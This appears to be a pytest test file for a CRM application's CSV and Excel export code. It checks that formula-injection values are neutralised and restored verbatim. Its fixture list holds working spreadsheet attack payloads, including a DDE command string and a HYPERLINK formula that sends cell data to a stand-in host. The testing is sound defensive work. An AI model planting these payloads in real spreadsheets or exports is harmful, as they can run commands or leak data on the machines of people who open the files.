"""Exports cannot attack the spreadsheet that opens them, and the stored value comes back verbatim."""

from __future__ import annotations

import csv
import io
import re
import tomllib
from pathlib import Path

import pytest
from openpyxl import load_workbook

from db.core import audit, records
from db.crm import companies, contacts, deals, feedback
from db.io import export

ROOT = Path(__file__).resolve().parents[2]
HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "=cmd|' /C calc'!A0", "+1+2", "-2+3", "@SUM(A1)",
           "\t=1+1", "\r=1+1", "'=already quoted", "''+twice", "'plain apostrophe", "plain", "", "José Müller",
           "=" + "x" * 40_000]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize("value", HOSTILE)
def test_neutralise_then_restore_gives_the_value_back(value):
    cell = export.neutralise(value)
    assert not str(cell).startswith(DANGEROUS)
    assert export.restore(cell) == value


def test_numbers_are_left_as_numbers():
    assert export.neutralise(-5) == -5
    assert export.neutralise(2.5) == 2.5


def _csv_cells(data: bytes) -> list[list[str]]:
    text = data.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline="")))


def test_csv_has_no_cell_a_spreadsheet_would_run():
    rows = [{"name": v, "n": i} for i, v in enumerate(HOSTILE)]
    data = export.to_csv(rows)
    assert data.startswith(b"\xef\xbb\xbf")
    table = _csv_cells(data)
    assert table[0] == ["name", "n"]
    for (name, _), value in zip(table[1:], HOSTILE, strict=True):
        assert not name.startswith(DANGEROUS)
        assert export.restore(name) == value


def _sheet(data: bytes):
    return load_workbook(io.BytesIO(data)).active


def test_excel_writes_text_as_string_cells_never_formulas():
    rows = [{"name": v, "amount": -12.5, "empty": None} for v in HOSTILE]
    ws = _sheet(export.to_xlsx(rows, sheet="contacts"))
    assert ws.title == "contacts"
    body = list(ws.iter_rows(min_row=2))
    assert len(body) == len(HOSTILE)
    for (name, amount, empty), value in zip(body, HOSTILE, strict=True):
        assert name.data_type != "f"
        if value:
            # XML reads a bare CR as a line feed: the one character a workbook cannot carry verbatim.
            assert name.data_type == "s" and name.value == value[: export.EXCEL_CELL_MAX].replace("\r", "\n")
        assert amount.value == -12.5 and amount.data_type == "n"
        assert empty.value is None


def test_excel_replaces_characters_it_cannot_hold():
    ws = _sheet(export.to_xlsx([{"name": "a\x00b\x07c"}]))
    assert ws["A2"].value == "a\ufffdb\ufffdc"


def test_every_entity_export_neutralises_hostile_names(conn, admin):
    evil = "=cmd|' /C calc'!A0"
    company = records.create(conn, "companies", {"name": evil}, admin)
    contact = records.create(conn, "contacts", {"first_name": evil, "last_name": "@x", "company_id": company,
                                                "tags": "-tag", "lifecycle": "lead"}, admin)
    pipeline = conn.execute("SELECT id FROM pipelines ORDER BY id LIMIT 1").fetchone()
    if pipeline is None:
        pipeline_id = records.create(conn, "pipelines", {"name": "+Sales"}, admin)
        stage = records.create(conn, "stages", {"pipeline_id": pipeline_id, "name": "=Stage", "kind": "open",
                                                "probability": 0.1}, admin)
    else:
        pipeline_id = pipeline[0]
        stage = conn.execute("SELECT id FROM stages WHERE pipeline_id = ? ORDER BY position LIMIT 1",
                             (pipeline_id,)).fetchone()[0]
    records.create(conn, "deals", {"title": evil, "pipeline_id": pipeline_id, "stage_id": stage,
                                   "contact_id": contact, "company_id": company, "amount": 10}, admin)
    feedback.record(conn, contact, "csat", 4, "2026-11-01", evil, admin)
    exported = {
        "contacts": contacts.export_rows(conn, contacts.Query()),
        "companies": companies.export_rows(conn),
        "deals": deals.export_rows(conn, deals.BoardQuery(pipeline_id=pipeline_id)),
        "feedback": feedback.export_rows(conn),
        "audit": audit.export_rows(conn),
    }
    for name, rows in exported.items():
        assert rows, name
        assert any(evil in str(v) for r in rows for v in r.values()), name
        for line in _csv_cells(export.to_csv(rows))[1:]:
            assert not any(cell.startswith(DANGEROUS) for cell in line), (name, line)
        ws = _sheet(export.to_xlsx(rows))
        assert all(c.data_type != "f" for row in ws.iter_rows() for c in row), name


def _python_files():
    for folder in ("components", "pages", "db"):
        yield from (ROOT / folder).rglob("*.py")
    yield ROOT / "app.py"


def test_every_download_goes_through_the_safe_export():
    """No page builds a file itself: all downloads, CSV and Excel writers live in the export modules."""
    allowed = {ROOT / "components" / "export.py", ROOT / "db" / "io" / "export.py"}
    pattern = re.compile(r"download_button\(|\.to_csv\(|\.to_excel\(|csv\.writer\(|Workbook\(")
    offenders = [str(p.relative_to(ROOT)) for p in _python_files() if p not in allowed
                 and pattern.search(p.read_text())]
    # The calendar's .ics download is not a spreadsheet; it is built by db.crm.activities.ics.
    assert offenders == ["components/calendar_view.py"]
    assert "download_button(t(\"calendar.download_ics\"" in (ROOT / "components/calendar_view.py").read_text()


def test_streamlit_table_download_is_switched_off():
    config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text())
    assert config["client"]["disableDataExport"] is True
